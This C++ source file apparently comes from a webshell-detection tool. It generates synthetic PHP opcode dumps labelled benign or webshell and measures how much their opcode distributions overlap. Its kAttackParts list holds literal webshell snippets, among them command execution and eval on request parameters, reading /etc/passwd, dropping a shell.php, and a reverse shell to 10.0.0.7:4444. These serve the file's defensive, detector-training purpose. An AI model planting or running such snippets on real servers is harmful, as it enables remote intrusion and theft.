// Copyright 2026 The OpShield Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <map>

#include "opshield/eval.hpp"
#include "opshield/rng.hpp"

namespace opshield {
namespace {

using Stmt = std::vector<OpLine>;

constexpr std::size_t kMinOps = 20;
constexpr std::size_t kMaxOps = 400;

const std::vector<std::string> kBenignFns = {
    "strlen",   "strtolower", "strtoupper",  "trim",      "htmlspecialchars", "date",
    "count",    "implode",    "explode",     "str_replace", "sprintf",        "number_format",
    "json_encode", "array_keys", "in_array", "ucfirst",   "md5",              "intval"};
const std::vector<std::string> kKeys = {"page", "id", "name", "lang", "sort", "q", "view", "user", "limit"};
const std::vector<std::string> kWords = {"Welcome",  "Home",   "About us", "Contact", "<div class=\"nav\">",
                                         "</div>",   "Products", "Login",  "Total: ", "Price",
                                         "Search",   "news",   "index",    "footer",  "<li>",
                                         "</li>",    "Sign in", "Cart",    "utf-8",   "en"};
const std::vector<std::string> kIncludes = {"config.php", "lib/db.php", "header.php", "footer.php",
                                            "vendor/autoload.php", "inc/functions.php"};
const std::vector<std::string> kIncludeKinds = {"INCLUDE", "INCLUDE_ONCE", "REQUIRE", "REQUIRE_ONCE"};
const std::vector<std::string> kCallbacks = {"render_page", "format_price", "load_menu", "send_headers",
                                             "print_footer"};
const std::vector<std::string> kShellFns = {"system", "exec", "shell_exec", "passthru"};
const std::vector<std::string> kAttackParts = {
    "@system($_REQUEST['c']);",
    "echo '<pre>'.shell_exec($_POST['x']).'</pre>';",
    "$f=fopen('/tmp/.x.php','w');fwrite($f,$_POST['d']);fclose($f);",
    "@eval($_POST['pass']);",
    "passthru('uname -a; id; cat /etc/passwd');",
    "$s=fsockopen('10.0.0.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
    "file_put_contents('shell.php', base64_decode($_GET['p']));",
    "@assert($_REQUEST['code']);",
    "@ini_set('display_errors',0);set_time_limit(0);"};

template <typename T>
const T& pick(Rng& rng, const std::vector<T>& items) {
  return items[rng.below(items.size())];
}

Operand cv(int k) { return {OperandKind::CompiledVar, "!" + std::to_string(k)}; }
Operand tmp(int k) { return {OperandKind::TempVar, "~" + std::to_string(k)}; }
Operand var(int k) { return {OperandKind::Var, "$" + std::to_string(k)}; }
Operand num(long n) { return {OperandKind::ConstNumber, std::to_string(n)}; }

OpLine op(std::string opcode, std::vector<Operand> operands = {}, std::optional<Operand> result = {}) {
  OpLine line;
  line.opcode = std::move(opcode);
  line.operands = std::move(operands);
  line.result = std::move(result);
  return line;
}

std::string url_encode_all(std::string_view s) {
  std::string out;
  char buf[4];
  for (unsigned char c : s) {
    std::snprintf(buf, sizeof buf, "%%%02x", c);
    out += buf;
  }
  return out;
}

enum class Motif { EvalB64, Command, AssertB64, Dynamic };

class ScriptBuilder {
 public:
  explicit ScriptBuilder(Rng& rng) : rng_(rng) {}

  Stmt filler() {
    const double u = rng_.uniform();
    if (u < 0.14) return echo();
    if (u < 0.28) return assign();
    if (u < 0.38) return concat();
    if (u < 0.52) return call();
    if (u < 0.60) return fetch();
    if (u < 0.65) return include();
    if (u < 0.73) return branch();
    if (u < 0.79) return array();
    if (u < 0.87) return padding();
    if (u < 0.93) return rope();
    if (u < 0.95) return silence();
    return blob();
  }

  Stmt motif(Motif kind, bool malicious) {
    switch (kind) {
      case Motif::EvalB64: {
        const int p = local(), v = temp();
        Stmt s;
        s.push_back(op("ASSIGN", {cv(p), Operand::string(malicious ? payload() : pick(rng_, kWords))}));
        s.push_back(op("INIT_FCALL", {Operand::string(malicious ? "base64_decode" : pick(rng_, kBenignFns))}));
        s.push_back(op("SEND_VAR", {cv(p)}));
        s.push_back(op("DO_ICALL", {}, var(v)));
        if (malicious) {
          s.push_back(op("INCLUDE_OR_EVAL", {var(v), Operand::name("EVAL")}));
        } else {
          s.push_back(op("INCLUDE_OR_EVAL", {Operand::string(pick(rng_, kIncludes)),
                                             Operand::name(pick(rng_, kIncludeKinds))}));
        }
        return s;
      }
      case Motif::Command: {
        const int v = temp(), t = temp(), w = temp();
        Stmt s;
        s.push_back(op("FETCH_R", {Operand::string(rng_.bernoulli(0.5) ? "_GET" : "_POST")}, var(v)));
        s.push_back(op("FETCH_DIM_R", {var(v), Operand::string(malicious ? "cmd" : pick(rng_, kKeys))}, tmp(t)));
        s.push_back(op("INIT_FCALL", {Operand::string(malicious ? pick(rng_, kShellFns) : "htmlspecialchars")}));
        s.push_back(op("SEND_VAR", {tmp(t)}));
        s.push_back(op("DO_ICALL", {}, var(w)));
        s.push_back(op("ECHO", {var(w)}));
        return s;
      }
      case Motif::AssertB64: {
        const int v = temp(), w = temp();
        Stmt s;
        s.push_back(op("INIT_FCALL", {Operand::string(malicious ? "base64_decode" : "strtolower")}));
        s.push_back(op("SEND_VAL", {Operand::string(malicious ? payload() : pick(rng_, kWords))}));
        s.push_back(op("DO_ICALL", {}, var(v)));
        s.push_back(op("INIT_FCALL", {Operand::string(malicious ? (rng_.bernoulli(0.5) ? "assert" : "exec")
                                                                : pick(rng_, kBenignFns))}));
        s.push_back(op("SEND_VAR", {var(v)}));
        s.push_back(op("DO_ICALL", {}, var(w)));
        return s;
      }
      case Motif::Dynamic: {
        const int f = local(), v = temp();
        Stmt s;
        const std::string target = rng_.bernoulli(0.5) ? "system" : "assert";
        s.push_back(op("ASSIGN", {cv(f), Operand::string(malicious ? url_encode_all(target) : pick(rng_, kCallbacks))}));
        s.push_back(op("INIT_DYNAMIC_CALL", {cv(f)}));
        s.push_back(op("SEND_VAL", {Operand::string(malicious ? payload() : pick(rng_, kWords))}));
        s.push_back(op("DO_FCALL", {}, var(v)));
        return s;
      }
    }
    return {};
  }

  Stmt padding() { return {op(rng_.bernoulli(0.7) ? "EXT_STMT" : "NOP")}; }

 private:
  int local() { return static_cast<int>(rng_.below(8)); }
  int temp() { return next_temp_++; }

  std::string text() {
    if (rng_.bernoulli(0.15)) {
      std::string s;
      while (s.size() <= 80) s += pick(rng_, kWords) + " ";
      return s;
    }
    return pick(rng_, kWords);
  }

  Operand value() {
    if (rng_.bernoulli(0.3)) return num(static_cast<long>(rng_.below(1000)));
    return Operand::string(text());
  }

  std::string payload() {
    std::string s;
    while (s.size() <= 80) s += pick(rng_, kAttackParts);
    return base64_encode(s);
  }

  Stmt echo() { return {op("ECHO", {Operand::string(text())})}; }

  Stmt assign() { return {op("ASSIGN", {cv(local()), value()})}; }

  Stmt concat() {
    const int t = temp();
    return {op("CONCAT", {cv(local()), Operand::string(pick(rng_, kWords))}, tmp(t)), op("ECHO", {tmp(t)})};
  }

  Stmt call() {
    const int v = temp();
    Stmt s;
    s.push_back(op("INIT_FCALL", {Operand::string(pick(rng_, kBenignFns))}));
    if (rng_.bernoulli(0.5)) {
      s.push_back(op("SEND_VAL", {value()}));
    } else {
      s.push_back(op("SEND_VAR", {cv(local())}));
    }
    s.push_back(op("DO_ICALL", {}, var(v)));
    s.push_back(op("ASSIGN", {cv(local()), var(v)}));
    return s;
  }

  Stmt fetch() {
    const int v = temp(), t = temp();
    return {op("FETCH_R", {Operand::string(rng_.bernoulli(0.5) ? "_GET" : "_POST")}, var(v)),
            op("FETCH_DIM_R", {var(v), Operand::string(pick(rng_, kKeys))}, tmp(t)),
            op("ASSIGN", {cv(local()), tmp(t)})};
  }

  Stmt include() {
    return {op("INCLUDE_OR_EVAL", {Operand::string(pick(rng_, kIncludes)), Operand::name(pick(rng_, kIncludeKinds))})};
  }

  Stmt branch() {
    const int t = temp();
    return {op("IS_EQUAL", {cv(local()), value()}, tmp(t)),
            op("JMPZ", {tmp(t), num(static_cast<long>(rng_.below(400)))})};
  }

  Stmt array() {
    const int t = temp();
    return {op("INIT_ARRAY", {Operand::string(pick(rng_, kKeys))}, tmp(t)),
            op("ADD_ARRAY_ELEMENT", {Operand::string(pick(rng_, kKeys))}, tmp(t)),
            op("ASSIGN", {cv(local()), tmp(t)})};
  }

  Stmt rope() {
    const int t = temp(), u = temp();
    return {op("ROPE_INIT", {Operand::string(pick(rng_, kWords))}, tmp(t)),
            op("ROPE_ADD", {tmp(t), cv(local())}, tmp(t)),
            op("ROPE_END", {tmp(t), Operand::string(pick(rng_, kWords))}, tmp(u)), op("ECHO", {tmp(u)})};
  }

  Stmt silence() {
    const int t = temp(), v = temp();
    return {op("BEGIN_SILENCE", {}, tmp(t)), op("INIT_FCALL", {Operand::string(pick(rng_, kBenignFns))}),
            op("DO_ICALL", {}, var(v)), op("END_SILENCE", {tmp(t)})};
  }

  // Base64 that decodes to a harmless short word.
  Stmt blob() { return {op("ASSIGN", {cv(local()), Operand::string(base64_encode(pick(rng_, kWords) + ".png"))})}; }

  Rng& rng_;
  int next_temp_ = 0;
};

OpcodeDump build_sample(Rng& rng, bool malicious) {
  ScriptBuilder b(rng);
  const double lo = std::log(static_cast<double>(kMinOps)), hi = std::log(static_cast<double>(kMaxOps));
  const auto target = static_cast<std::size_t>(std::exp(rng.uniform(lo, hi)));

  // Same motif-shape distribution for both classes; only operands differ.
  static const std::vector<Motif> first = {Motif::EvalB64, Motif::AssertB64, Motif::Dynamic};
  static const std::vector<Motif> any = {Motif::EvalB64, Motif::Command, Motif::AssertB64, Motif::Dynamic};
  std::vector<Stmt> motifs;
  motifs.push_back(b.motif(pick(rng, first), malicious));
  if (rng.bernoulli(0.5)) motifs.push_back(b.motif(pick(rng, any), malicious));
  std::size_t motif_ops = 0;
  for (const auto& m : motifs) motif_ops += m.size();

  const std::size_t budget = target > motif_ops + 1 ? target - motif_ops - 1 : 0;
  std::vector<Stmt> body;
  std::size_t used = 0;
  for (int misses = 0; misses < 8;) {
    Stmt s = b.filler();
    if (used + s.size() > budget) {
      ++misses;
      continue;
    }
    used += s.size();
    body.push_back(std::move(s));
  }
  for (; used < budget; ++used) body.push_back(b.padding());
  for (auto& m : motifs) {
    const auto at = static_cast<std::ptrdiff_t>(rng.below(body.size() + 1));
    body.insert(body.begin() + at, std::move(m));
  }
  body.push_back({op("RETURN", {num(1)})});

  FunctionUnit main{std::string(kMainFunction), {}};
  std::uint32_t index = 0;
  for (std::size_t line = 0; line < body.size(); ++line) {
    for (auto& o : body[line]) {
      o.src_line = static_cast<std::uint32_t>(line + 2);
      o.op_index = index++;
      main.ops.push_back(std::move(o));
    }
  }
  OpcodeDump dump;
  dump.functions.push_back(std::move(main));
  return dump;
}

}  // namespace

std::vector<LabeledDump> gen_corpus(std::uint64_t seed, std::size_t n_benign, std::size_t n_malicious) {
  if (n_benign == 0 || n_malicious == 0) {
    throw Error(ErrorCode::InvalidConfig, "gen_corpus needs at least one sample per class");
  }
  std::vector<Label> labels(n_benign, Label::Benign);
  labels.insert(labels.end(), n_malicious, Label::Webshell);
  Rng order = Rng::derive(seed, 0);
  order.shuffle(labels);

  std::vector<LabeledDump> corpus;
  corpus.reserve(labels.size());
  for (std::size_t i = 0; i < labels.size(); ++i) {
    Rng rng = Rng::derive(seed, i + 1);
    char id[32];
    std::snprintf(id, sizeof id, "sample_%05zu", i);
    corpus.push_back({id, build_sample(rng, labels[i] == Label::Webshell), labels[i]});
  }
  return corpus;
}

double opcode_overlap(const std::vector<LabeledDump>& corpus) {
  std::map<std::string, double> counts[2];
  double totals[2] = {0, 0};
  for (const auto& s : corpus) {
    const int c = s.label == Label::Webshell ? 1 : 0;
    for (const auto& fn : s.dump.functions) {
      for (const auto& o : fn.ops) {
        counts[c][o.opcode] += 1;
        totals[c] += 1;
      }
    }
  }
  if (totals[0] == 0 || totals[1] == 0) throw Error(ErrorCode::SingleClassDataset, "overlap needs both classes");
  std::map<std::string, double> keys = counts[0];
  for (const auto& [k, v] : counts[1]) keys[k];
  double tv = 0;
  for (const auto& [k, unused] : keys) {
    const double p = counts[0].count(k) ? counts[0][k] / totals[0] : 0;
    const double q = counts[1].count(k) ? counts[1][k] / totals[1] : 0;
    tv += std::abs(p - q);
  }
  return 1.0 - 0.5 * tv;
}

}  // namespace opshield
